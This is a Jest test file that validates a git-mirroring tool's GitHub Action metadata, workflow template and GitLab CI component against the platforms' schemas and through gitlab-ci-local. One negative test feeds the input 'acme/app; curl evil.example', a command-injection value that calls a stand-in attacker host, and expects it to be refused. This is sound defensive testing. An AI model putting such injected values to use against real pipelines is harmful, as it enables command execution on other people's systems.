import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import * as actionValidator from '@action-validator/core';
import { NoOperationTraceWriter, parseWorkflow } from '@actions/workflow-parser';
import { parseAction } from '@actions/workflow-parser/actions/action-parser';
import { Ajv, type ValidateFunction } from 'ajv';
import ajvFormats from 'ajv-formats';
import { execa } from 'execa';
import { copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import vm from 'node:vm';
import { parse, parseAllDocuments } from 'yaml';
import { commitFiles, git } from '../support/git.js';
import { gitlabCiLocalBin, jobPath } from '../support/gitlab-ci-local.js';
import { repoRoot } from '../support/paths.js';
import { tempDir } from '../support/temp.js';

// The YAML refbridge ships, checked against the platforms' published schemas, offline:
// - action.yml and the workflow bootstrap commits: GitHub's own schemas from @actions/workflow-parser
//   (what GitHub's Actions language service uses) and SchemaStore's, as @action-validator ships them;
// - templates/mirror.yml and a pipeline including it: GitLab's ci.json (as gitlab-ci-local bundles
//   it), and gitlab-ci-local itself resolving the include.

const read = (path: string): Promise<string> => readFile(join(repoRoot, path), 'utf8');
const trace = new NoOperationTraceWriter();

function githubActionErrors(name: string, content: string): string[] {
  return parseAction({ name, content }, trace)
    .context.errors.getErrors()
    .map((e) => e.message);
}

function githubWorkflowErrors(name: string, content: string): string[] {
  return parseWorkflow({ name, content }, trace)
    .context.errors.getErrors()
    .map((e) => e.message);
}

describe('action.yml and the GitHub workflow template', () => {
  it('action.yml is valid action metadata for GitHub (node24, inputs and outputs described)', async () => {
    const text = await read('action.yml');
    expect(githubActionErrors('action.yml', text)).toEqual([]);
    const action = parse(text) as {
      runs: { using: string; main: string };
      inputs: Record<string, { description?: string; required?: boolean; default?: string }>;
      outputs: Record<string, { description?: string }>;
    };
    expect(action.runs).toEqual({ using: 'node24', main: 'dist/index.js' });
    for (const [name, input] of Object.entries(action.inputs)) {
      expect([name, typeof input.description]).toEqual([name, 'string']);
    }
    expect(action.inputs['gitlab-token']?.required).toBe(true);
    expect(action.inputs['gitlab-url']?.default).toBe('https://gitlab.com');
    expect(action.inputs['github-token']?.default).toBe('${{ github.token }}');
    expect(Object.keys(action.outputs).sort()).toEqual(['result', 'target-sha']);
  });

  it("action.yml is valid against SchemaStore's github-action schema", async () => {
    // @action-validator 0.6.0 carries a SchemaStore schema from before node24 joined `runs.using`
    // (GitHub's own schema above checks node24); everything else is checked as written.
    const text = (await read('action.yml')).replace(/^(\s+using:\s*)node24\s*$/m, '$1node20');
    expect(text).toContain('using: node20');
    expect(actionValidator.validateAction(text).errors).toEqual([]);
  });

  it('the workflow bootstrap commits is a valid workflow under both schemas', async () => {
    const text = await read('ci-templates/github-mirror.yml');
    expect(githubWorkflowErrors('github-mirror.yml', text)).toEqual([]);
    expect(actionValidator.validateWorkflow(text).errors).toEqual([]);
    const workflow = parse(text) as {
      on: Record<string, unknown>;
      jobs: Record<string, { if?: string; steps: { uses?: string; with?: Record<string, unknown> }[] }>;
    };
    expect(Object.keys(workflow.on).sort()).toEqual(['delete', 'push']);
    const job = Object.values(workflow.jobs)[0]!;
    expect(job.if).toContain('MIRROR_BOT_USER');
    const checkout = job.steps.find((s) => s.uses?.startsWith('actions/checkout@'));
    expect(checkout?.with?.['persist-credentials']).toBe(false);
    const mirror = job.steps.find((s) => s.uses?.startsWith('refbridge/'));
    expect(mirror?.uses).toMatch(/^refbridge\/refbridge@v\d+$/);
  });

  it('the validators reject what GitHub would reject (they are not vacuous)', async () => {
    const action = await read('action.yml');
    expect(githubActionErrors('action.yml', action.replace('using: node24', 'using: node99'))).not.toEqual([]);
    expect(githubActionErrors('action.yml', action.replace(/^description:.*$/m, ''))).not.toEqual([]);
    const workflow = await read('ci-templates/github-mirror.yml');
    const broken = workflow.replace('runs-on: ubuntu-latest', 'runs-on: ubuntu-latest\n    timeout: soon');
    expect(githubWorkflowErrors('w.yml', broken)).not.toEqual([]);
    expect(actionValidator.validateWorkflow(broken).errors).not.toEqual([]);
  });
});

/**
 * GitLab's CI schema (gitlab-org/gitlab app/assets/javascripts/editor/schema/ci.json) as bundled
 * into gitlab-ci-local, which validates pipelines with it: the JSON is an object literal in the
 * bundle, right before gitlab-ci-local deletes two patterns it finds too strict. Those deletions
 * are not applied here, so this is GitLab's schema as published.
 */
async function gitlabCiSchema(): Promise<Record<string, unknown>> {
  const bundle = await readFile(gitlabCiLocalBin, 'utf8');
  const m =
    /var ([\w$]+)=\{\$schema:"http:\/\/json-schema\.org\/draft-07\/schema#",\$id:"https:\/\/gitlab\.com\/\.gitlab-ci\.yml",/.exec(
      bundle,
    );
  if (!m) throw new Error(`GitLab's CI schema was not found in ${gitlabCiLocalBin}; was gitlab-ci-local upgraded?`);
  const start = m.index + `var ${m[1]}=`.length;
  const end = bundle.indexOf(`;delete ${m[1]}.definitions.`, start);
  if (end < 0) throw new Error('the end of the bundled GitLab CI schema was not found');
  return vm.runInNewContext(`(${bundle.slice(start, end)})`, {}, { timeout: 5000 }) as Record<string, unknown>;
}

describe('the GitLab component and CI template', () => {
  let validate: ValidateFunction;
  let tmp: Awaited<ReturnType<typeof tempDir>>;

  const errorsOf = (doc: unknown): string[] =>
    validate(doc) ? [] : (validate.errors ?? []).map((e) => `${e.instancePath} ${e.message ?? ''}`);

  beforeAll(async () => {
    tmp = await tempDir('refbridge-templates-');
    const schema = await gitlabCiSchema();
    expect(schema['$id']).toBe('https://gitlab.com/.gitlab-ci.yml');
    // GitLab's own schema spec (spec/frontend/editor/schema/ci/ci_schema_spec.js) compiles it so
    const ajv = new Ajv({ strictTypes: false, strictTuples: false, allowMatchingProperties: true, allErrors: true });
    ajv.addKeyword('markdownDescription');
    // CommonJS under NodeNext: the default import is module.exports, which carries the plugin as .default
    ajvFormats.default(ajv);
    validate = ajv.compile(schema);
  });

  afterAll(async () => {
    await tmp?.cleanup();
  });

  async function componentDocs(): Promise<[Record<string, unknown>, Record<string, unknown>]> {
    const docs = parseAllDocuments(await read('templates/mirror.yml'));
    expect(docs).toHaveLength(2);
    for (const d of docs) expect(d.errors).toEqual([]);
    return [docs[0]!.toJSON() as Record<string, unknown>, docs[1]!.toJSON() as Record<string, unknown>];
  }

  it("templates/mirror.yml: its spec header and its job are valid against GitLab's CI schema", async () => {
    const [header, jobs] = await componentDocs();
    expect(Object.keys(header)).toEqual(['spec']);
    expect(errorsOf(header)).toEqual([]);
    expect(errorsOf(jobs)).toEqual([]);
    // nothing that would leak into the including pipeline
    for (const key of ['default', 'variables', 'stages', 'workflow', 'include', 'image', 'before_script']) {
      expect(Object.keys(jobs)).not.toContain(key);
    }
    const inputs = (header['spec'] as { inputs: Record<string, { description?: string }> }).inputs;
    for (const name of [
      'stage',
      'github-url',
      'github-repo',
      'image',
      'refbridge-version',
      'bot-user',
      'deletions',
      'force',
      'dry-run',
    ]) {
      expect([name, typeof inputs[name]?.description]).toEqual([name, 'string']);
    }
  });

  it('the schema rejects a broken component (the check is not vacuous)', async () => {
    const [header, jobs] = await componentDocs();
    const spec = header['spec'] as { inputs: Record<string, Record<string, unknown>> };
    spec.inputs['force']!['type'] = 'bool';
    expect(errorsOf(header)).not.toEqual([]);
    const job = Object.values(jobs)[0] as Record<string, unknown>;
    job['when'] = 'sometimes';
    expect(errorsOf(jobs)).not.toEqual([]);
  });

  it('ci-templates/gitlab-mirror.yml, merged into a user pipeline, is valid', async () => {
    const snippet = parse(await read('ci-templates/gitlab-mirror.yml')) as Record<string, unknown>;
    expect(errorsOf(snippet)).toEqual([]);
    const pipeline = { stages: ['build', 'test'], build: { stage: 'build', script: ['make'] }, ...snippet };
    expect(errorsOf(pipeline)).toEqual([]);
  });

  /** A project like a user's: origin on a GitLab instance, a commit, this repo's component. */
  async function project(name: string, gitlabCi: (head: string) => string): Promise<string> {
    const dir = join(tmp.path, name);
    await mkdir(dir);
    await git(dir, ['init', '-q', '-b', 'main']);
    await git(dir, ['remote', 'add', 'origin', 'https://gitlab.example.com/refbridge/refbridge.git']);
    const head = await commitFiles(dir, { 'README.md': '# refbridge\n' }, 'init');
    await mkdir(join(dir, 'templates'));
    await copyFile(join(repoRoot, 'templates', 'mirror.yml'), join(dir, 'templates', 'mirror.yml'));
    await writeFile(join(dir, '.gitlab-ci.yml'), gitlabCi(head));
    return dir;
  }

  async function gitlabCiLocal(cwd: string, args: string[]) {
    return execa(process.execPath, [gitlabCiLocalBin, '--color=false', ...args], {
      cwd,
      env: { PATH: jobPath(), HOME: tmp.path },
      extendEnv: false,
      reject: false,
      timeout: 60_000,
    });
  }

  it('gitlab-ci-local resolves `include: component:` with inputs, validates it and lists the job', async () => {
    const dir = await project('component', (head) =>
      [
        'stages: [build, test, mirror]',
        'build:',
        '  stage: build',
        '  script: [make]',
        'include:',
        `  - component: $CI_SERVER_FQDN/refbridge/refbridge/mirror@${head}`,
        '    inputs:',
        '      stage: mirror',
        '      github-repo: acme/app',
        '      force: true',
        '',
      ].join('\n'),
    );
    const preview = await gitlabCiLocal(dir, ['--preview']);
    expect(preview.stderr).toContain('json schema validated');
    expect(preview.exitCode).toBe(0);
    const expanded = parse(preview.stdout) as Record<string, Record<string, unknown>>;
    const job = expanded['refbridge-mirror']!;
    expect(job['stage']).toBe('mirror');
    expect(job['variables']).toMatchObject({ REFBRIDGE_GITHUB_REPO: 'acme/app' });
    expect((job['script'] as string[]).join('\n')).toContain('if [ "true" = "true" ]; then set -- "$@" --force; fi');
    expect(expanded['variables']).toBeUndefined();
    expect(expanded['default']).toBeUndefined();
    const list = await gitlabCiLocal(dir, ['--list']);
    expect(list.exitCode).toBe(0);
    expect(list.stdout).toMatch(/^refbridge-mirror\s+mirror\s+on_success/m);
  });

  it("gitlab-ci-local refuses inputs outside the component's spec", async () => {
    const dir = await project('bad-input', (head) =>
      [
        'include:',
        `  - component: $CI_SERVER_FQDN/refbridge/refbridge/mirror@${head}`,
        '    inputs:',
        "      github-repo: 'acme/app; curl evil.example'",
        '',
      ].join('\n'),
    );
    const r = await gitlabCiLocal(dir, ['--list']);
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr + r.stdout).toMatch(/github-repo/);
  });

  it('gitlab-ci-local resolves the include bootstrap commits (ci-templates/gitlab-mirror.yml) as written', async () => {
    const snippet = await read('ci-templates/gitlab-mirror.yml');
    const version = /component: \$CI_SERVER_FQDN\/refbridge\/refbridge\/mirror@(\S+)/.exec(snippet)?.[1];
    expect(version).toMatch(/^\d+\.\d+\.\d+$/);
    const dir = await project(
      'bootstrap',
      () => `stages: [build, test]\nbuild:\n  stage: build\n  script: [make]\n${snippet}`,
    );
    // Offline, gitlab-ci-local takes a remote component pinned to a version from its include cache:
    // put this repo's template where a fetch of refbridge/refbridge@<version> would land.
    const cached = join(dir, '.gitlab-ci-local', 'includes', 'gitlab.example.com', 'refbridge', 'refbridge', version!);
    await mkdir(join(cached, 'templates'), { recursive: true });
    await copyFile(join(repoRoot, 'templates', 'mirror.yml'), join(cached, 'templates', 'mirror.yml'));
    await git(dir, ['remote', 'set-url', 'origin', 'https://gitlab.example.com/acme/app.git']);
    const preview = await gitlabCiLocal(dir, ['--preview']);
    expect(preview.exitCode).toBe(0);
    const expanded = parse(preview.stdout) as Record<string, Record<string, unknown>>;
    expect(expanded['refbridge-mirror']?.['stage']).toBe('test');
    expect(errorsOf(expanded)).toEqual([]);
  });
});
